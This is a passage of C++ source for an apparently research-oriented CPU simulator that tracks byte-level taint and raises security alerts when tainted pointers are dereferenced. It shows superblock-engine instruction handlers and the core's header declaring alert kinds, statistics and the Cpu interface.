    NEXT();                                                           \
  }

  ALU_IMM(AddI, a.value + static_cast<uint32_t>(in.imm),
          static_cast<uint32_t>(in.imm))
  ALU_IMM(OrI, a.value | (in.imm & 0xffff),
          static_cast<uint32_t>(in.imm & 0xffff))
  ALU_IMM(XorI, a.value ^ (in.imm & 0xffff),
          static_cast<uint32_t>(in.imm & 0xffff))
#undef ALU_IMM

  OP(AndI) {
    const Instruction& in = u->inst;
    const TaintedWord a = regs.get(in.rs);
    const uint32_t v = a.value & (in.imm & 0xffff);
    if (a.taint == 0) {
      ++tu.evaluations;
      if (policy.and_zero_untaints) ++tu.and_zero_untaints;
      regs.set(in.rt, TaintedWord{v});
    } else {
      c.alu_write(in, in.rt, v, a,
                  TaintedWord{static_cast<uint32_t>(in.imm & 0xffff)}, true);
    }
    ++st.alu_ops;
    ++st.instructions;
    NEXT();
  }

#define ALU_CMP_I(name, vexpr)                                           \
  OP(name) {                                                             \
    const Instruction& in = u->inst;                                     \
    const TaintedWord a = regs.get(in.rs);                               \
    const uint32_t v = (vexpr);                                          \
    if (a.taint == 0) {                                                  \
      ++tu.evaluations;                                                  \
      if (policy.compare_untaints) {                                     \
        ++tu.compare_untaints;                                           \
        ++st.compare_untaints;                                           \
      }                                                                  \
      regs.set(in.rt, TaintedWord{v});                                   \
    } else {                                                             \
      c.alu_write(in, in.rt, v, a,                                       \
                  TaintedWord{static_cast<uint32_t>(in.imm)}, true);     \
    }                                                                    \
    ++st.alu_ops;                                                        \
    ++st.instructions;                                                   \
    NEXT();                                                              \
  }

  ALU_CMP_I(SltI, static_cast<int32_t>(a.value) < in.imm ? 1 : 0)
  ALU_CMP_I(SltuI, a.value < static_cast<uint32_t>(in.imm) ? 1 : 0)
#undef ALU_CMP_I

  // -- multiply/divide/hi-lo/taint primitives (no propagate in execute) -----
  OP(MulDiv) {
    const Instruction& in = u->inst;
    const TaintedWord a = regs.get(in.rs);
    const TaintedWord b2 = regs.get(in.rt);
    switch (in.op) {
      case Op::kMult: {
        const int64_t p =
            static_cast<int64_t>(static_cast<int32_t>(a.value)) *
            static_cast<int64_t>(static_cast<int32_t>(b2.value));
        const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
        regs.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
        regs.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
        break;
      }
      case Op::kMultu: {
        const uint64_t p = static_cast<uint64_t>(a.value) *
                           static_cast<uint64_t>(b2.value);
        const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
        regs.set_lo(TaintedWord{static_cast<uint32_t>(p), t});
        regs.set_hi(TaintedWord{static_cast<uint32_t>(p >> 32), t});
        break;
      }
      case Op::kDiv: {
        const auto da = static_cast<int32_t>(a.value);
        const auto db = static_cast<int32_t>(b2.value);
        const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
        if (db == 0) {
          regs.set_lo(TaintedWord{0, t});
          regs.set_hi(TaintedWord{0, t});
        } else {
          regs.set_lo(TaintedWord{static_cast<uint32_t>(da / db), t});
          regs.set_hi(TaintedWord{static_cast<uint32_t>(da % db), t});
        }
        break;
      }
      case Op::kDivu: {
        const auto t = static_cast<mem::TaintBits>(a.taint | b2.taint);
        if (b2.value == 0) {
          regs.set_lo(TaintedWord{0, t});
          regs.set_hi(TaintedWord{0, t});
        } else {
          regs.set_lo(TaintedWord{a.value / b2.value, t});
          regs.set_hi(TaintedWord{a.value % b2.value, t});
        }
        break;
      }
      case Op::kMfhi: regs.set(in.rd, regs.hi()); break;
      case Op::kMflo: regs.set(in.rd, regs.lo()); break;
      case Op::kMthi: regs.set_hi(a); break;
      case Op::kMtlo: regs.set_lo(a); break;
      case Op::kTaintSet:
        regs.set(in.rd,
                 TaintedWord{a.value, static_cast<mem::TaintBits>(
                                          mem::kAllTainted |
                                          (a.taint & mem::kAddrMask))});
        break;
      default:  // kTaintClr
        regs.set(in.rd, TaintedWord{a.value, mem::kUntainted});
        break;
    }
    ++st.alu_ops;
    ++st.instructions;
    NEXT();
  }

  // -- loads ----------------------------------------------------------------
  // detect_pointer() is a pure predicate when the base is untainted, so
  // gating the call on base.tainted() is observation-equivalent.
  OP(Lw) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord base = regs.get(in.rs);
    const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
    ++st.loads;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(in, in.rs, base, AlertKind::kTaintedLoadAddress)) {
      return;
    }
    if (ea % 4 != 0) {
      c.fault("misaligned lw");
      return;
    }
    TaintedWord result = c.memory_.load_word(ea);
    if (policy.per_word_taint) {
      result.taint = mem::widen_planes(result.taint);
    }
    if (result.tainted()) ++st.tainted_loads;
    regs.set(in.rt, result);
    ++st.instructions;
    NEXT();
  }

  OP(LoadOther) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord base = regs.get(in.rs);
    const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
    ++st.loads;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(in, in.rs, base, AlertKind::kTaintedLoadAddress)) {
      return;
    }
    TaintedWord result;
    if (in.op == Op::kLh || in.op == Op::kLhu) {
      if (ea % 2 != 0) {
        c.fault("misaligned lh");
        return;
      }
      const TaintedWord half = c.memory_.load_half(ea);
      if (in.op == Op::kLh) {
        result.value =
            static_cast<uint32_t>(static_cast<int16_t>(half.value & 0xffff));
        result.taint = mem::widen_planes(half.taint);
      } else {
        result = half;
      }
    } else {
      const mem::TaintedByte b = c.memory_.load_byte(ea);
      if (in.op == Op::kLb) {
        result.value = static_cast<uint32_t>(static_cast<int8_t>(b.value));
        result.taint = mem::widen_planes(mem::planes_to_word(b.planes, 0));
      } else {
        result.value = b.value;
        result.taint = mem::planes_to_word(b.planes, 0);
      }
    }
    if (policy.per_word_taint) {
      result.taint = mem::widen_planes(result.taint);
    }
    if (result.tainted()) ++st.tainted_loads;
    regs.set(in.rt, result);
    ++st.instructions;
    NEXT();
  }

  // -- stores ---------------------------------------------------------------
  // A store into text retires every overlapping block, possibly this one;
  // the storage stays alive in the graveyard, so after retiring the guest
  // instruction we abort the block with the next PC and re-enter through
  // fresh translation (self-modifying code executes its current bytes).
  OP(Sw) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord base = regs.get(in.rs);
    const TaintedWord val = regs.get(in.rt);
    const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
    ++st.stores;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(in, in.rs, base, AlertKind::kTaintedStoreAddress)) {
      return;
    }
    const TaintedWord stored{val.value, val.taint};
    if (c.detect_annotation(in, ea, 4, stored)) return;
    if (val.tainted()) ++st.tainted_stores;
    if (ea < c.text_end_ && ea + 4 > c.text_begin_) {
      c.invalidate_decode_range(ea, 4);
    }
    if (ea % 4 != 0) {
      c.fault("misaligned sw");
      return;
    }
    c.memory_.store_word(ea, val);
    ++st.instructions;
    if (cur->retired) {
      c.pc_ = u->pc + 4;
      return;
    }
    NEXT();
  }

  OP(StoreSmall) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord base = regs.get(in.rs);
    const TaintedWord val = regs.get(in.rt);
    const uint32_t ea = base.value + static_cast<uint32_t>(in.imm);
    ++st.stores;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(in, in.rs, base, AlertKind::kTaintedStoreAddress)) {
      return;
    }
    const uint32_t len = in.op == Op::kSh ? 2 : 1;
    const TaintedWord stored{
        val.value, static_cast<mem::TaintBits>(
                       val.taint & (((1u << len) - 1) * 0x1111u))};
    if (c.detect_annotation(in, ea, len, stored)) return;
    if (val.tainted()) ++st.tainted_stores;
    if (ea < c.text_end_ && ea + len > c.text_begin_) {
      c.invalidate_decode_range(ea, len);
    }
    if (in.op == Op::kSh) {
      if (ea % 2 != 0) {
        c.fault("misaligned sh");
        return;
      }
      c.memory_.store_half(ea, val);
    } else {
      c.memory_.store_byte(ea, {static_cast<uint8_t>(val.value),
                                mem::byte_planes(val.taint, 0)});
    }
    ++st.instructions;
    if (cur->retired) {
      c.pc_ = u->pc + 4;
      return;
    }
    NEXT();
  }

  // -- fused pairs ----------------------------------------------------------
  OP(LuiOri) {
    // The lui half seeds text provenance from its OWN value (the fused
    // constant's low half comes from the ori and must not affect the
    // in-text test — step() checks `imm << 16` alone).  The ori or-merges
    // that provenance into the fused constant; its data planes stay clean,
    // so the single evaluation bump matches propagate() exactly.
    const Instruction& in = u->inst;
    const uint32_t lui_v = static_cast<uint32_t>(in.imm & 0xffff) << 16;
    const mem::TaintBits lt =
        c.text_begin_ != 0 && lui_v >= c.text_begin_ && lui_v < c.text_end_
            ? mem::kTextAddrMask
            : mem::kUntainted;
    if (u->aux) {
      regs.set(in.rt, TaintedWord{lui_v, lt});
    }
    ++tu.evaluations;
    regs.set(u->inst2.rt, TaintedWord{u->value, lt});
    st.alu_ops += 2;
    st.instructions += 2;
    NEXT();
  }

  OP(AddrLw) {
    const Instruction& ai = u->inst;
    const Instruction& li = u->inst2;
    const TaintedWord a = regs.get(ai.rs);
    const uint32_t av = a.value + static_cast<uint32_t>(ai.imm);
    TaintedWord base;
    if (a.taint == 0) {
      ++tu.evaluations;
      base = TaintedWord{av};
      regs.set(ai.rt, base);
    } else {
      c.alu_write(ai, ai.rt, av, a,
                  TaintedWord{static_cast<uint32_t>(ai.imm)}, true);
      base = regs.get(ai.rt);  // re-read: granularity may have widened taint
    }
    ++st.alu_ops;
    ++st.instructions;
    c.pc_ = u->pc + 4;  // the load's own PC, for alerts and faults
    const uint32_t ea = base.value + static_cast<uint32_t>(li.imm);
    ++st.loads;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(li, li.rs, base, AlertKind::kTaintedLoadAddress)) {
      return;
    }
    if (ea % 4 != 0) {
      c.fault("misaligned lw");
      return;
    }
    TaintedWord result = c.memory_.load_word(ea);
    if (policy.per_word_taint) {
      result.taint = mem::widen_planes(result.taint);
    }
    if (result.tainted()) ++st.tainted_loads;
    regs.set(li.rt, result);
    ++st.instructions;
    NEXT();
  }

  OP(AddrSw) {
    const Instruction& ai = u->inst;
    const Instruction& si = u->inst2;
    const TaintedWord a = regs.get(ai.rs);
    const uint32_t av = a.value + static_cast<uint32_t>(ai.imm);
    TaintedWord base;
    if (a.taint == 0) {
      ++tu.evaluations;
      base = TaintedWord{av};
      regs.set(ai.rt, base);
    } else {
      c.alu_write(ai, ai.rt, av, a,
                  TaintedWord{static_cast<uint32_t>(ai.imm)}, true);
      base = regs.get(ai.rt);
    }
    ++st.alu_ops;
    ++st.instructions;
    c.pc_ = u->pc + 4;
    const TaintedWord val = regs.get(si.rt);
    const uint32_t ea = base.value + static_cast<uint32_t>(si.imm);
    ++st.stores;
    if (u->elide == 0 && base.tainted() &&
        c.detect_pointer(si, si.rs, base, AlertKind::kTaintedStoreAddress)) {
      return;
    }
    const TaintedWord stored{val.value, val.taint};
    if (c.detect_annotation(si, ea, 4, stored)) return;
    if (val.tainted()) ++st.tainted_stores;
    if (ea < c.text_end_ && ea + 4 > c.text_begin_) {
      c.invalidate_decode_range(ea, 4);
    }
    if (ea % 4 != 0) {
      c.fault("misaligned sw");
      return;
    }
    c.memory_.store_word(ea, val);
    ++st.instructions;
    if (cur->retired) {
      c.pc_ = u->pc + 8;
      return;
    }
    NEXT();
  }

  // -- terminators ----------------------------------------------------------
  OP(Branch) {
    const Instruction& in = u->inst;
    const TaintedWord a = regs.get(in.rs);
    const TaintedWord b2 = regs.get(in.rt);
    ++st.branches;
    const auto sval = static_cast<int32_t>(a.value);
    bool taken = false;
    switch (in.op) {
      case Op::kBeq: taken = a.value == b2.value; break;
      case Op::kBne: taken = a.value != b2.value; break;
      case Op::kBlez: taken = sval <= 0; break;
      case Op::kBgtz: taken = sval > 0; break;
      case Op::kBltz: case Op::kBltzal: taken = sval < 0; break;
      default: taken = sval >= 0; break;
    }
    if (in.op == Op::kBltzal || in.op == Op::kBgezal) {
      regs.set(isa::kRa, TaintedWord{u->pc + 4, mem::kTextAddrMask});
    }
    if (policy.compare_untaints &&
        (a.tainted() || regs.get(in.rt).tainted())) {
      regs.untaint(in.rs);
      if (in.op == Op::kBeq || in.op == Op::kBne) regs.untaint(in.rt);
      ++st.compare_untaints;
    }
    if (taken) {
      c.pc_ = u->pc + 4 + (static_cast<uint32_t>(in.imm) << 2);
      ++st.taken_branches;
    } else {
      c.pc_ = u->pc + 4;
    }
    ++st.instructions;
    goto chain_next;
  }

  OP(CmpBranch) {
    const Instruction& ci = u->inst;
    const Instruction& bi = u->inst2;
    const TaintedWord a = regs.get(ci.rs);
    TaintedWord b2;
    bool b_imm = false;
    uint8_t dest = 0;
    uint32_t v = 0;
    switch (ci.op) {
      case Op::kSlt:
        b2 = regs.get(ci.rt);
        dest = ci.rd;
        v = static_cast<int32_t>(a.value) < static_cast<int32_t>(b2.value)
                ? 1
                : 0;
        break;
      case Op::kSltu:
        b2 = regs.get(ci.rt);
        dest = ci.rd;
        v = a.value < b2.value ? 1 : 0;
        break;
      case Op::kSlti:
        b2 = TaintedWord{static_cast<uint32_t>(ci.imm)};
        b_imm = true;
        dest = ci.rt;
        v = static_cast<int32_t>(a.value) < ci.imm ? 1 : 0;
        break;
      default:  // kSltiu
        b2 = TaintedWord{static_cast<uint32_t>(ci.imm)};
        b_imm = true;
        dest = ci.rt;
        v = a.value < static_cast<uint32_t>(ci.imm) ? 1 : 0;
        break;
    }
    if ((a.taint | b2.taint) == 0) {
      ++tu.evaluations;
      if (policy.compare_untaints) {
        ++tu.compare_untaints;
        ++st.compare_untaints;
      }
      regs.set(dest, TaintedWord{v});
    } else {
      c.alu_write(ci, dest, v, a, b2, b_imm);
    }
    ++st.alu_ops;
    ++st.instructions;
    // Branch half: beq/bne dest, $zero.  The branch-side compare-untaint
    // rule can never fire here — with the policy on the compare just left
    // `dest` untainted, with it off the rule is gated — so only the
    // condition and the counters remain.
    ++st.branches;
    const uint32_t cv = regs.get(bi.rs).value;
    const bool taken = u->aux ? cv != 0 : cv == 0;
    if (taken) {
      c.pc_ = u->pc + 8 + (static_cast<uint32_t>(bi.imm) << 2);
      ++st.taken_branches;
    } else {
      c.pc_ = u->pc + 8;
    }
    ++st.instructions;
    goto chain_next;
  }

  OP(J) {
    ++st.jumps;
    ++st.instructions;
    c.pc_ = u->inst.target;
    goto chain_next;
  }

  OP(Jal) {
    regs.set(isa::kRa, TaintedWord{u->pc + 4, mem::kTextAddrMask});
    ++st.jumps;
    ++st.instructions;
    c.pc_ = u->inst.target;
    goto chain_next;
  }

  OP(Jr) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord a = regs.get(in.rs);
    ++st.jumps;
    if (u->elide == 0 && a.tainted() &&
        c.detect_pointer(in, in.rs, a, AlertKind::kTaintedJumpTarget)) {
      return;
    }
    ++st.instructions;
    c.pc_ = a.value;
    goto chain_next;
  }

  OP(Jalr) {
    const Instruction& in = u->inst;
    c.pc_ = u->pc;
    const TaintedWord a = regs.get(in.rs);
    ++st.jumps;
    if (u->elide == 0 && a.tainted() &&
        c.detect_pointer(in, in.rs, a, AlertKind::kTaintedJumpTarget)) {
      return;
    }
    regs.set(in.rd, TaintedWord{u->pc + 4, mem::kTextAddrMask});
    ++st.instructions;
    c.pc_ = a.value;
    goto chain_next;
  }

  OP(Syscall) {
    c.pc_ = u->pc;
    ++st.syscalls;
    if (c.os_ == nullptr) {
      c.fault("syscall without an OS");
      return;
    }
    c.os_->syscall(c);
    ++st.instructions;
    if (c.stop_ != StopReason::kRunning) return;  // pc stays at the syscall
    c.pc_ = u->pc + 4;
    return;
  }

  OP(Break) {
    c.pc_ = u->pc;
    c.stop_ = StopReason::kBreak;
    ++st.instructions;
    return;
  }

#if !PTAINT_THREADED_DISPATCH
    default:
      c.pc_ = u->pc;
      return;  // unreachable: translate() emits only known kinds
  }
#endif

  // Block exit with the machine still running: dispatch straight into the
  // successor block when it is cached (translating on a miss keeps hot
  // loops inside the chain) and fits the remaining budget.  Anything
  // irregular — off-text target, budget tail, invalid entry — returns to
  // advance(), whose step() fallback has reference semantics.  Blocks this
  // one invalidated are nulled in block_at_ before we get here, so a chain
  // can never enter stale translations; a self-invalidated block returns
  // through its store handler instead (cur->retired).
chain_next: {
  const uint64_t retired = st.instructions - entry_insts;
  if (retired >= budget) return;
  const uint32_t npc = c.pc_;
  Block* next;
  if (cur->succ_pc == npc && cur->succ_gen == gen_) {
    next = cur->succ;  // memo hit: loops take this path every iteration
  } else {
    if (npc % 4 != 0 || npc < c.text_begin_) return;
    const uint32_t idx = (npc - c.text_begin_) / 4;
    if (idx >= block_at_.size()) return;
    next = block_at_[idx];
    if (next == nullptr) {
      next = translate(npc, idx);
      if (next == nullptr) return;
    }
    cur->succ = next;
    cur->succ_pc = npc;
    cur->succ_gen = gen_;
  }
  if (next->guest_len > budget - retired) return;
  cur = next;
  ++stats_.blocks_entered;
  u = cur->uops.data();
#if PTAINT_THREADED_DISPATCH
  goto* kLabels[u->kind];
#else
  goto dispatch_top;
#endif
}
#undef OP
#undef NEXT
}

// ---------------------------------------------------------------------------
// Budget loop
// ---------------------------------------------------------------------------

StopReason SuperblockEngine::advance(uint64_t n) {
  Cpu& c = cpu_;
  ensure_capacity();
  if (jit_ != nullptr && c.engine_ == Engine::kJit) return jit_->advance(n);
  uint64_t remaining = n;
  while (remaining > 0 && c.stop_ == StopReason::kRunning) {
    Block* blk = nullptr;
    const uint32_t pc = c.pc_;
    if (pc % 4 == 0 && pc >= c.text_begin_) {
      const uint32_t idx = (pc - c.text_begin_) / 4;
      if (idx < block_at_.size()) {
        blk = block_at_[idx];
        if (blk == nullptr) blk = translate(pc, idx);
      }
    }
    if (blk == nullptr || blk->guest_len > remaining) {
      // step() handles every irregular case with reference semantics:
      // misaligned/off-text fetch (NX), invalid encodings, and the budget
      // tail where the next block is longer than what remains.
      const uint64_t before = c.stats_.instructions;
      c.step();
      stats_.step_retired += c.stats_.instructions - before;
      --remaining;
      continue;
    }
    const uint64_t before = c.stats_.instructions;
    ++stats_.blocks_entered;
    exec_block(*blk, remaining);
    const uint64_t retired = c.stats_.instructions - before;
    stats_.block_retired += retired;
    remaining -= retired;
    // Blocks invalidated while executing (self-modifying code, kernel
    // copies into text) are parked in the graveyard; now that dispatch is
    // between blocks their storage can go.
    if (!graveyard_.empty()) graveyard_.clear();
  }
  return c.stop_;
}

}  // namespace ptaint::cpu
