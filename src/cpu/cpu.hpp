// PTA-32 execution core with pointer-taintedness detection.
//
// The core executes the functional semantics of the ISA while the taint unit
// tracks per-byte taintedness through every register write and memory access
// (paper Section 4.2).  Two detectors guard dereferences (Section 4.3):
//   * jump detector   — JR/JALR with any tainted byte in the target register;
//   * memory detector — loads/stores whose address word has any tainted byte.
// A triggered detector records a SecurityAlert and halts the core before the
// offending access is performed, which models the OS terminating the process
// when the retirement-stage exception fires.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "cpu/taint_policy.hpp"
#include "cpu/taint_unit.hpp"
#include "isa/isa.hpp"
#include "mem/register_file.hpp"
#include "mem/tainted_memory.hpp"

namespace ptaint::cpu {

class Cpu;
class SuperblockEngine;
class JitEngine;
struct JitRuntime;

/// Which execution engine drives the core (DESIGN.md §9, §12).  All three
/// produce byte-identical architectural state, stop reasons, alerts and
/// statistics; the translated tiers are simply faster.
enum class Engine : uint8_t {
  kStep,        // reference interpreter: fetch/decode/execute per instruction
  kSuperblock,  // translated superblocks with threaded dispatch
  kJit,         // hot superblocks compiled to host x86-64 (DESIGN.md §12)
};

/// Observability counters for the superblock engine (ptaint-run
/// --engine-stats).  Diagnostic only — never part of the cross-engine
/// identity contract.
struct SuperblockStats {
  // Live block-cache shape.
  uint64_t blocks = 0;              // blocks currently cached
  uint64_t guest_instructions = 0;  // guest instructions they cover
  uint64_t uops = 0;                // micro-ops they hold
  uint64_t fused_pairs = 0;         // fused pairs inside them
  // Cumulative execution counters.
  uint64_t blocks_translated = 0;
  uint64_t blocks_entered = 0;
  uint64_t block_retired = 0;   // instructions retired inside superblocks
  uint64_t step_retired = 0;    // instructions retired via the step fallback
  uint64_t invalidations = 0;   // blocks retired by self-modifying stores
};

/// Observability counters for the JIT tier (ptaint-run --engine-stats;
/// DESIGN.md §12).  Diagnostic only — never part of the cross-engine
/// identity contract.
struct JitStats {
  // Cumulative compilation counters.
  uint64_t blocks_compiled = 0;   // superblocks lowered to host code
  uint64_t code_bytes = 0;        // bytes currently held in the code cache
  // Cumulative execution counters.
  uint64_t host_entries = 0;      // calls into compiled block bodies
  uint64_t host_retired = 0;      // guest instructions retired in host code
  // Blocks the compiler refused, by reason.  Such blocks stay on the
  // interpreted superblock path forever (no_jit sticks until retranslation).
  uint64_t bailout_syscall = 0;   // block contains a SYSCALL micro-op
  uint64_t bailout_break = 0;     // block contains a BREAK micro-op
  uint64_t bailout_arena_full = 0;  // code cache exhausted
  // Compiled blocks retired through the graveyard (SMC / snapshot deltas).
  // Their host code stays in the arena — a retired block may be the one
  // executing — and is reclaimed only by reset().
  uint64_t invalidations = 0;
};

/// OS-services interface; the simulated kernel (src/os) implements it.
class Os {
 public:
  virtual ~Os() = default;
  /// Handles the SYSCALL instruction.  Registers and memory are accessed
  /// through `cpu`; the implementation must taint buffers it fills from
  /// external sources (paper Section 4.4).
  virtual void syscall(Cpu& cpu) = 0;
};

/// Why an alert fired.
enum class AlertKind : uint8_t {
  kTaintedJumpTarget,
  kTaintedLoadAddress,
  kTaintedStoreAddress,
  /// The §5.3 extension: tainted data written into a region the programmer
  /// annotated as never-tainted.
  kAnnotatedRegionTainted,
  /// NX baseline: instruction fetch from non-executable memory.
  kNxViolation,
  /// Address-leak direction (policy.leak_detection): SYS_WRITE/SYS_SEND
  /// buffer holds bytes with stack/heap/text address provenance.
  kAddressLeak,
};

/// The security exception record, mirroring the paper's alert transcripts
/// ("44d7b0: sw $21,0($3)   $3=0x1002bc20").
struct SecurityAlert {
  AlertKind kind{};
  uint32_t pc = 0;
  isa::Instruction inst;
  std::string disasm;
  uint8_t reg = 0;           // register dereferenced as a pointer
  uint32_t reg_value = 0;    // its (attacker-controlled) value
  mem::TaintBits taint = 0;  // which bytes were tainted
  std::string region;        // annotated region name (annotation alerts)

  /// One-line rendering in the paper's transcript style.
  std::string to_string() const;
};

/// Why execution stopped.
enum class StopReason : uint8_t {
  kRunning,
  kExit,           // SYS_EXIT
  kSecurityAlert,  // detector fired
  kFault,          // invalid instruction / misaligned access / no OS
  kInstLimit,      // run() budget exhausted
  kBreak,          // BREAK instruction
};

struct CpuStats {
  uint64_t instructions = 0;
  uint64_t alu_ops = 0;
  uint64_t loads = 0;
  uint64_t stores = 0;
  uint64_t branches = 0;
  uint64_t taken_branches = 0;
  uint64_t jumps = 0;
  uint64_t syscalls = 0;
  uint64_t tainted_loads = 0;    // loads that returned tainted data
  uint64_t tainted_stores = 0;   // stores that wrote tainted data
  uint64_t compare_untaints = 0; // branch/SLT operand untainting events
};

class Cpu {
 public:
  /// The policy object must outlive the Cpu.
  Cpu(mem::TaintedMemory& memory, const TaintPolicy& policy);
  ~Cpu();  // out-of-line: unique_ptr to the (here-incomplete) engine

  void set_os(Os* os) { os_ = os; }

  /// Selects the execution engine used by run()/advance().  Defaults to
  /// kStep; the Machine layer switches on the superblock engine.  Retire
  /// hooks (trace/profile/pipeline subscribers) force the step path
  /// regardless, since superblocks do not surface per-retire events.
  void set_engine(Engine engine);
  Engine engine() const { return engine_; }

  mem::RegisterFile& regs() { return regs_; }
  const mem::RegisterFile& regs() const { return regs_; }
  mem::TaintedMemory& memory() { return memory_; }

  uint32_t pc() const { return pc_; }
  void set_pc(uint32_t pc) { pc_ = pc; }

  /// Executes one instruction.  Returns the stop state after the step
  /// (kRunning when execution can continue).
  StopReason step();

  /// Runs until stop or until `max_instructions` more retire.
  StopReason run(uint64_t max_instructions);

  /// Like run() but never marks kInstLimit when the budget runs out — the
  /// campaign executor's slicing primitive.  Retires exactly
  /// `max_instructions` unless the core stops first, on whichever engine is
  /// selected (retire hooks force the step path).
  StopReason advance(uint64_t max_instructions);

  StopReason stop_reason() const { return stop_; }
  const std::optional<SecurityAlert>& alert() const { return alert_; }
  const std::string& fault_message() const { return fault_message_; }
  int exit_status() const { return exit_status_; }

  /// Called by the OS layer to terminate the program.
  void request_exit(int status);
  /// Called by the OS layer on an unrecoverable emulation error.
  void request_fault(std::string message);

  const CpuStats& stats() const { return stats_; }
  const TaintUnit& taint_unit() const { return taint_unit_; }
  const TaintPolicy& policy() const { return policy_; }

  /// §5.3 extension: declares [addr, addr+len) as never-tainted.  A store
  /// that would put tainted bytes there raises an annotation alert, even
  /// though no tainted pointer is involved — this catches the Table 4
  /// flag-overwrite / index-overwrite false negatives at the price of
  /// per-application annotations (the paper's proposed trade).
  void protect_region(uint32_t addr, uint32_t len, std::string name);

  /// Declares the executable text range for NX enforcement (set by the
  /// loader).  With policy.nx_protection, fetching outside it alerts.
  /// Also sizes the decoded-instruction cache covering the range.
  void set_executable_range(uint32_t begin, uint32_t end);

  /// Installs the static analyzer's check-elision bitmap (one byte per
  /// text instruction, 1 = the pointer-taintedness check at that PC is
  /// statically proven to never fire; see src/analysis).  Elided PCs skip
  /// only detect_pointer — annotation checks, NX and the taint propagation
  /// itself are unaffected, so architectural state stays byte-identical.
  /// Cleared by set_executable_range and per-entry by
  /// invalidate_decode_range (self-modifying code voids the proof).
  void set_check_elision(const std::vector<uint8_t>& elision);

  /// Drops cached decodes overlapping [addr, addr+len).  The store path
  /// calls this for guest stores into text; the OS layer calls it when a
  /// kernel copy (SYS_READ/SYS_RECV) lands in guest memory, so
  /// self-modifying code executes its current bytes.
  void invalidate_decode_range(uint32_t addr, uint32_t len);

  /// Installs the static analyzer's basic-block leader bitmap (one byte per
  /// text instruction, 1 = a CFG block starts here).  The superblock engine
  /// ends translation at leaders so its blocks align with the static CFG;
  /// purely a translation hint — never affects semantics.  Cleared by
  /// set_executable_range.
  void set_block_leaders(const std::vector<uint8_t>& leaders);

  /// Superblock-engine observability counters (zeros under kStep).
  const SuperblockStats& superblock_stats() const;

  /// JIT-tier observability counters (zeros unless engine is kJit).
  const JitStats& jit_stats() const;

  /// Marks the core stopped with kInstLimit if it is still running — the
  /// campaign executor's budget enforcement (mirrors run() exhausting its
  /// budget, so reports classify identically).
  void mark_inst_limit() {
    if (stop_ == StopReason::kRunning) stop_ = StopReason::kInstLimit;
  }

  /// Annotation check for kernel-side writes: the OS layer calls this when
  /// it copies tainted input into guest memory (SYS_READ/SYS_RECV), since
  /// those bytes bypass the store-instruction detector.  Raises the alert
  /// and returns true when [addr, addr+len) overlaps a protected region.
  bool annotation_kernel_write(uint32_t addr, uint32_t len);

  /// Address-leak check for kernel-side output: the OS layer calls this
  /// when SYS_WRITE/SYS_SEND is about to publish [addr, addr+len).  Under
  /// policy.leak_detection, raises an address-leak alert and returns true
  /// when the buffer holds any address-tainted byte — unless the leak
  /// check at the current (syscall) PC is statically elided.
  bool kernel_output_leak(uint32_t addr, uint32_t len);

  /// §5.3-style escape hatch for the leak direction: PC ranges whose
  /// kernel-output checks are suppressed because the program legitimately
  /// publishes pointers there (a %p debug printer, a protocol that ships
  /// handles).  The annotation is per *output site*, not per datum — taint
  /// propagation and every other detector are unaffected.  Resolved from
  /// MachineConfig::may_publish function names by the Machine layer;
  /// orthogonal to set_leak_elision (which is a proof, not a waiver) and
  /// active with or without static elision.
  void set_publish_ranges(std::vector<std::pair<uint32_t, uint32_t>> ranges) {
    publish_ranges_ = std::move(ranges);
  }

  /// Installs the leak-site prover's elision bitmap (one byte per text
  /// instruction, 1 = no address-tainted byte can reach the output buffer
  /// of the syscall at that PC).  Same lifecycle as set_check_elision:
  /// cleared by set_executable_range and, per entry, by
  /// invalidate_decode_range (self-modifying code voids the proof).
  void set_leak_elision(const std::vector<uint8_t>& elision);

  /// Observer invoked on every retired instruction — the pipeline timing
  /// model subscribes here.  `ea` is the effective address for memory ops.
  using RetireHook =
      std::function<void(const isa::Instruction&, uint32_t pc, bool taken,
                         bool is_mem, uint32_t ea)>;
  void set_retire_hook(RetireHook hook) { retire_hook_ = std::move(hook); }

  struct ProtectedRegion {
    uint32_t begin = 0;
    uint32_t end = 0;  // exclusive
    std::string name;
  };

  /// Complete architectural + bookkeeping state of the core, deep-copyable
  /// for machine snapshot/restore.  Everything that can influence a future
  /// step() or report() is included; the decode cache is derived state and
  /// is rebuilt lazily after restore.
  struct State {
    mem::RegisterFile regs;
    uint32_t pc = isa::layout::kTextBase;
    StopReason stop = StopReason::kRunning;
    std::optional<SecurityAlert> alert;
    std::string fault_message;
    int exit_status = 0;
    CpuStats stats;
    TaintUnit::Stats taint_stats;
    std::vector<ProtectedRegion> protected_regions;
    uint32_t text_begin = 0;
    uint32_t text_end = 0xffffffff;
  };
  State save_state() const;
  void restore_state(const State& state);

  /// Like restore_state, but keeps the decoded-instruction cache, elision
  /// and leader bitmaps, and cached superblock translations — the
  /// delta-restore path, where the restored memory image differs from the
  /// current one only on pages the caller then passes to
  /// invalidate_decode_range.  Falls back to a full restore_state (and
  /// returns false) when the text range changed, since every derived
  /// structure is sized to it.
  bool restore_state_keep_caches(const State& state);

 private:
  friend class SuperblockEngine;  // handlers mirror execute() bit-for-bit
  friend class JitEngine;         // emitted code mirrors the same handlers
  friend struct JitRuntime;       // out-of-line slow paths for emitted code

  StopReason execute(const isa::Instruction& inst, bool elide = false);
  bool detect_pointer(const isa::Instruction& inst, uint8_t reg,
                      mem::TaintedWord value, AlertKind kind);
